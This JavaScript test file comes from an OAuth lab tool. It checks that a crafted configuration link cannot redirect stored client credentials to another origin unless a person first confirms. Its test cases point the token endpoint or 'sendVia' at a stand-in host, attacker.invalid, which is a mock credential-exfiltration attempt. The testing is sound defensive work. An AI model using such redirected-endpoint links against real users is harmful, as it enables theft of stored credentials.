// A link is untrusted input (docs/design.md "A stored credential never leaves for a place it did not
// come from"): after a normal run against a server, a #config=…&run=1 link that keeps the issuer
// but moves the token endpoint or sendVia to another origin must send that origin nothing, must
// leave the device's client in place, and must ask a person before anything goes there.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { configFor, labUrl, openPage, screenshot, setup, startLabServer, waitForFlowState } from "./helpers.mjs";

let env;
let real;
before(async () => {
  env = await setup();
  real = await startLabServer();
});
after(async () => {
  await real?.close();
  await env?.close();
});

const ATTACKER = "https://attacker.invalid";
const device = (page) => page.evaluate(() => window.haapiLab.device());
const realConfig = () => configFor("client_secret_basic", { server: { mode: "http", issuer: real.issuer } });

/** Records every request to the attacker's origin and answers it as a hostile server would. */
async function attacker(page) {
  const seen = [];
  await page.route(`${ATTACKER}/**`, (route) => {
    seen.push(`${route.request().method()} ${route.request().url()} ${route.request().headers().authorization ?? ""}`);
    return route.fulfill({ status: 401, contentType: "application/json", headers: { "access-control-allow-origin": "*" }, body: '{"error":"invalid_client"}' });
  });
  return seen;
}

async function registerAtTheRealServer(page) {
  await page.goto(labUrl(env.server, realConfig(), { run: true }));
  assert.equal(await waitForFlowState(page), "succeeded");
  const first = await device(page);
  assert.ok(first.client?.clientId, "a client was registered at the real server");
  return first.client.clientId;
}

for (const [name, hostile] of [
  ["a moved token endpoint", (c) => ({ ...c, server: { ...c.server, endpoints: { ...c.server.endpoints, token: `${ATTACKER}/oauth/v2/oauth-token` } } })],
  ["a hostile sendVia", (c) => ({ ...c, server: { ...c.server, sendVia: ATTACKER } })],
]) {
  test(`a link with ${name} sends the stored client nowhere and asks first`, async (t) => {
    const page = await openPage(env, t);
    const seen = await attacker(page);
    const clientId = await registerAtTheRealServer(page);

    await page.goto(labUrl(env.server, hostile(realConfig()), { run: true }));
    await page.reload(); // a fragment change alone does not reload the page
    assert.equal(await waitForFlowState(page), "failed");
    const result = await page.evaluate(() => window.haapiLab.trace());
    const last = result.steps.at(-1);
    assert.equal(last.name, "haapi-token");
    assert.equal(last.error.code, "CREDENTIAL_DESTINATION_CHANGED");
    assert.equal(last.request, null, "nothing was sent");
    assert.deepEqual(seen, [], "the attacker's origin received nothing");
    assert.equal((await device(page)).client.clientId, clientId, "the device keeps its client");
    const prompt = page.locator("[data-confirm=new-origin]");
    await prompt.waitFor();
    assert.match(await prompt.textContent(), new RegExp(clientId));
    assert.match(await prompt.textContent(), /attacker\.invalid/);
    await screenshot(page, `link-attack-${name.replaceAll(" ", "-")}`, { fullPage: false });

    // A person who confirms sends it there; the hostile server's 401 still does not make the
    // device forget the client it registered at the real server.
    await page.locator("#btn-confirm-destination").click();
    await waitForFlowState(page);
    assert.ok(seen.length > 0, "after confirmation the request went out");
    const after = await device(page);
    assert.ok(after.clients.some((c) => c.clientId === clientId), "a 401 from elsewhere never deletes the stored client");
    await page.checkClean({ allowConsole: [/401|Failed to load resource/], allowForeign: [ATTACKER, real.origin] });
  });
}

test("automation cannot confirm from a link: run(config, { allowNewOrigin: true }) is the explicit way", async (t) => {
  const page = await openPage(env, t);
  const seen = await attacker(page);
  await registerAtTheRealServer(page);
  const moved = realConfig();
  moved.server.endpoints.token = `${ATTACKER}/oauth/v2/oauth-token`;
  // A flag in the fragment is not a confirmation.
  await page.goto(`${labUrl(env.server, moved, { run: true })}&allowNewOrigin=1`);
  await page.reload();
  assert.equal(await waitForFlowState(page), "failed");
  assert.deepEqual(seen, []);
  const refused = await page.evaluate((c) => window.haapiLab.run(c), moved);
  assert.equal(refused.error.code, "CREDENTIAL_DESTINATION_CHANGED");
  assert.deepEqual(seen, []);
  await page.evaluate((c) => window.haapiLab.run(c, { allowNewOrigin: true }), moved);
  assert.ok(seen.some((s) => s.startsWith(`POST ${ATTACKER}/oauth/v2/oauth-token`)));
  await page.checkClean({ allowConsole: [/401|Failed to load resource/], allowForeign: [ATTACKER, real.origin] });
});

test("opening a link without running it changes nothing stored", async (t) => {
  const page = await openPage(env, t);
  await page.goto(labUrl(env.server, configFor("private_key_jwt"), { run: true }));
  assert.equal(await waitForFlowState(page), "succeeded");
  const before = await device(page);
  // Another method (new keys would be made for it), without run=1.
  await page.goto(labUrl(env.server, configFor("client_secret_post")));
  await page.reload();
  await page.waitForFunction(() => document.documentElement.dataset.flowState === "idle");
  // Back to the first configuration: the same device, the same keys, the simulator still knows the client.
  await page.goto(labUrl(env.server, configFor("private_key_jwt"), { run: true }));
  await page.reload();
  assert.equal(await waitForFlowState(page), "succeeded");
  const again = await device(page);
  assert.equal(again.client.clientId, before.client.clientId, "the stored client survived");
  assert.deepEqual(again.dpop.publicJwk, before.dpop.publicJwk, "the DPoP key was not regenerated");
  assert.deepEqual(again.credential.assertionPublicJwk, before.credential.assertionPublicJwk, "the assertion key was not regenerated");
  const steps = (await page.evaluate(() => window.haapiLab.trace())).steps.map((s) => [s.name, s.status]);
  assert.deepEqual(steps.find(([n]) => n === "registration"), ["registration", "skipped"], "no new registration");
  await page.checkClean();
});
